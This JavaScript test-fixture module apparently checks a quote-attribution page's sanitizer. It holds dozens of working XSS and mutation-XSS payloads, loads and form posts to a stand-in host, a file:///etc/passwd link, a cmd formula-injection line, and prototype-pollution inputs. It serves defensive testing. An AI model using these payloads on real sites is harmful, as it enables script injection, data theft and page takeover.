/**
 * What somebody may write who wants the page to run, load, show or send what it
 * should not. Each sample has the words that are to be found all the same.
 */

export const WORDS = "“The lamp is lit,”";
export const SPEAKER = "Ruth Pell";
const SAID = `${WORDS} said ${SPEAKER}.`;

// What each sample tries: `ran` is looked for, the address is listened for.
const RUN = "globalThis.ran = true";
const FAR = "http://hostile.example/seen";
const ENCODED = "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPXRydWU8L3NjcmlwdD4=";

const TRIES = {
  "a script": `<script>${RUN}</script>`,
  "a script from elsewhere": `<script src="${FAR}.js"></script><script type="module" src="${FAR}.mjs"></script><script type="module">import "${FAR}.mjs"</script>`,
  "a script that begins twice": `<scr<script>ipt>${RUN}</scr</script>ipt><SCRIPT/x>${RUN}</SCRIPT >`,
  "an import map and rules of speculation": `<script type="importmap">{"imports":{"./whosaid/":"${FAR}/"}}</script><script type="speculationrules">{"prefetch":[{"source":"list","urls":["${FAR}"]}]}</script>`,
  "handlers of events": `<img src="x" onerror="${RUN}"><body onload="${RUN}" onpageshow="${RUN}"><input autofocus onfocus="${RUN}"><details open ontoggle="${RUN}">d</details><p onclick="${RUN}" onpointerover="${RUN}">p</p>`,
  "handlers without quotes": `<img src=x onerror=globalThis.ran=true><img/src=\`x\`/onerror=globalThis.ran=true><svg/onload=globalThis.ran=true>`,
  "media that load": `<img src="${FAR}.png" srcset="${FAR}2.png 2x"><picture><source srcset="${FAR}3.png"></picture><video src="${FAR}.mp4" poster="${FAR}4.png" autoplay></video><audio src="${FAR}.ogg" autoplay></audio><track src="${FAR}.vtt"><embed src="${FAR}.swf"><object data="${FAR}.pdf"></object>`,
  "an element's background": `<body background="${FAR}.png"><table background="${FAR}.png"><td style="background: url(${FAR}.png)">cell</td></table>`,
  "links that run": `<a href="javascript:${RUN}">one</a> <a href=" java&#10;script&colon;${RUN}">two</a> <a href="&#1;javascript:${RUN}">three</a> <a href="JaVaScRiPt:${RUN}">four</a> <a href="vbscript:x">five</a>`,
  "links of data": `<a href="${ENCODED}">one</a> <a href="blob:null/0">two</a> <a href="file:///etc/passwd">three</a> <a href="filesystem:x">four</a>`,
  "links that ping, prefetch and download": `<a href="#top" ping="${FAR}" download target="_blank" rel="opener">one</a><link rel="prefetch" href="${FAR}"><link rel="preload" as="script" href="${FAR}.js"><link rel="modulepreload" href="${FAR}.mjs"><link rel="dns-prefetch" href="//hostile.example"><link rel="preconnect" href="//hostile.example"><link rel="manifest" href="${FAR}">`,
  "SVG": `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><use href="${FAR}.svg#a"/><image href="${FAR}.png"/><animate onbegin="${RUN}" attributeName="x" dur="1s"/><a xlink:href="javascript:${RUN}"><text y="9">t</text></a><foreignObject><iframe src="${FAR}"></iframe></foreignObject></svg>`,
  "SVG that animates a link": `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text y="9">t</text></a><set attributeName="onclick" to="${RUN}"/></svg>`,
  "MathML": `<math href="javascript:${RUN}"><mtext><a href="javascript:${RUN}">m</a></mtext><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  "a refresh": `<meta http-equiv="refresh" content="0;url=${FAR}"><meta http-equiv="refresh" content="0;javascript:${RUN}">`,
  "other rules for the page": `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline' *"><meta http-equiv="set-cookie" content="a=b"><meta name="referrer" content="unsafe-url"><meta name="viewport" content="width=1">`,
  "another base": `<base href="http://hostile.example/" target="_blank"><a href="app.js">one</a>`,
  "styles": `<style>* { display: none !important; background: url(${FAR}.png) !important } @import "${FAR}.css"; @font-face { font-family: x; src: url(${FAR}.woff2) }</style><link rel="stylesheet" href="${FAR}.css"><div style="position: fixed; inset: 0; z-index: 999999; background: red url(${FAR}.png)">over all</div>`,
  "styles of the page's own names": `<style>.q, .speakers, textarea { position: fixed !important; top: -9999px !important }</style><p class="trouble" id="trouble">alarm</p><p id="text" class="unseen">other</p>`,
  "frames": `<iframe src="${FAR}"></iframe><iframe srcdoc="<script>parent.ran = true</script>"></iframe><iframe src="javascript:parent.ran = true"></iframe><iframe src="${ENCODED}"></iframe><frameset><frame src="${FAR}"></frameset><portal src="${FAR}"></portal>`,
  "forms": `<form action="${FAR}" id="f"><input name="token" value="x" autofocus><button formaction="javascript:${RUN}">send</button></form><input form="f" type="image" src="${FAR}.png"><isindex action="${FAR}">`,
  "names of the page's own": `<form id="text" name="getElementById"><input name="body"><input name="parentNode"><input name="nodeName"><input name="attributes"></form><img name="body"><img name="querySelector"><embed name="querySelectorAll"><object id="documentElement"></object><img name="currentScript"><a id="config" href="x">x</a><a id="trustedTypes" name="createPolicy" href="x">x</a>`,
  "templates and shadow roots": `<template><script>${RUN}</script><img src=x onerror="${RUN}"></template><div><template shadowrootmode="open"><style>:host { position: fixed }</style><script>${RUN}</script><slot></slot></template>inside</div>`,
  "elements of the project's own": `<who-said for="#text"><p>in it</p></who-said><script type="module" src="./whosaid/define.js"></script><x-y is="who-said">custom</x-y>`,
  "a comment that ends early": `<!--><img src=x onerror="${RUN}">--><!-- --!><img src=x onerror="${RUN}">--><![CDATA[<img src=x onerror="${RUN}">]]><?xml version="1.0"?><!DOCTYPE html [<!ENTITY a "b">]>`,
  "markup that changes as it is read again (noscript)": `<noscript><p title="</noscript><img src=x onerror=globalThis.ran=true>">`,
  "markup that changes as it is read again (math)": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=globalThis.ran=true&gt;">`,
  "markup that changes as it is read again (svg)": `<svg></p><style><a id="</style><img src=x onerror=globalThis.ran=true>"></svg>`,
  "markup that changes as it is read again (form)": `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=globalThis.ran=true src=x>"></form>`,
  "markup that changes as it is read again (select)": `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=globalThis.ran=true>">`,
  "markup written as characters": `&lt;img src=x onerror=globalThis.ran=true&gt; &amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt; &#60;svg onload=globalThis.ran=true&#62;`,
  "attributes of great length": `<p title="${"x".repeat(60_000)}" style="${"color:red;".repeat(5_000)}">long</p><a href="https://harrow.example/${"a".repeat(20_000)}">far</a>`,
  "very many attributes": `<p ${Array.from({ length: 4_000 }, (_, at) => `data-a${at}="1"`).join(" ")}>many</p>`,
  "deep nesting": `${"<blockquote><ul><li><b><a href=https://harrow.example>".repeat(400)}deep`,
  "many tags that never close": "<b><i><u><em><strong>".repeat(600),
  "characters that turn the line around": "<p>\u202e\u2066txet\u2069\u202d \u200f\u061c\u0000\ufffe\ufeff \ud800 \udfff</p>",
  "control characters": "<p>\u0001\u0007\u0008\u001b[31m\u009b\u2028\u2029</p>",
  "Markdown": `[one](javascript:${RUN}) ![two](${FAR}.png "t") <javascript:${RUN}> [three]: javascript:${RUN}\n\n[three] <img src=x onerror="${RUN}">\n\n\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  "what swallows the rest": `<p>first</p><textarea><title><xmp><plaintext><img src=x onerror="${RUN}">`,
  "formulas": `=HYPERLINK("${FAR}","x")\n+1+cmd|' /C calc'!A0\n@SUM(1)\n-2+3`,
};

/** The samples: a name, and HTML that has the words in a paragraph of its own, at its beginning. */
export const SAMPLES = Object.entries(TRIES).map(([name, html]) => ({ name, html: `<p>${SAID}</p>\n\n${html}` }));

/** The names that a correction may bring. */
export const NAMES = [
  `<img src=x onerror="${RUN}">`, `"><script>${RUN}</script>`, `javascript:${RUN}`, "__proto__", "constructor", "toString", "hasOwnProperty",
  "=1+1", "x".repeat(50_000), "\u202e\u0000\ud800", "${globalThis.ran = true}", "{{constructor.constructor('globalThis.ran = true')()}}",
];

const file = (corrections, more = "") => `{"format":"whosaid-corrections","version":1,${more}"corrections":${corrections}}`;
const AT = `{"start":0,"words":"x"}`;

/** Files of corrections that are none; what the page has to say of each. */
export const FILES = {
  "nothing": ["", "not JSON"],
  "a list that nests too deep": [file("[".repeat(200_000) + "]".repeat(200_000)), /not JSON|does nothing that is known/],
  "null": ["null", "not a file of corrections from whosaid"],
  "a number for the list": [file("1e999"), "not a file of corrections from whosaid"],
  "an object for the list": [file(`{"length":3,"map":1}`), "not a file of corrections from whosaid"],
  "another version": [file("[]", `"version":{"toString":1},`).replace(`"version":1,`, ""), "of version"],
  "too many": [file(`[${"null,".repeat(20_000)}null]`), "at most"],
  "a null": [file("[null]"), "does nothing that is known"],
  "an inherited name": [file(`[{"do":"__proto__","at":${AT}},{"do":"constructor"}]`), "does nothing that is known"],
  "an own prototype": [file(`[{"__proto__":{"do":"remove","at":${AT},"polluted":true},"constructor":{"prototype":{"polluted":true}}}]`), "does nothing that is known"],
  "a place that is no number": [file(`[{"do":"remove","at":{"start":"0","words":"x"}}]`), "has no place"],
  "a huge place": [file(`[{"do":"remove","at":{"start":1e308,"words":"x"}}]`), "has no place"],
  "a place before the beginning": [file(`[{"do":"remove","at":{"start":-1,"words":"x"}}]`), "has no place"],
  "words that are a list": [file(`[{"do":"end","at":${AT},"words":["x"]}]`), "has no words"],
  "a speaker that is an object": [file(`[{"do":"speaker","at":${AT},"speaker":{"toString":null}}]`), "has no speaker"],
  "a place that no text has": [file(`[{"do":"remove","at":{"start":9007199254740991,"words":"x"}}]`), "1 did not fit"],
};
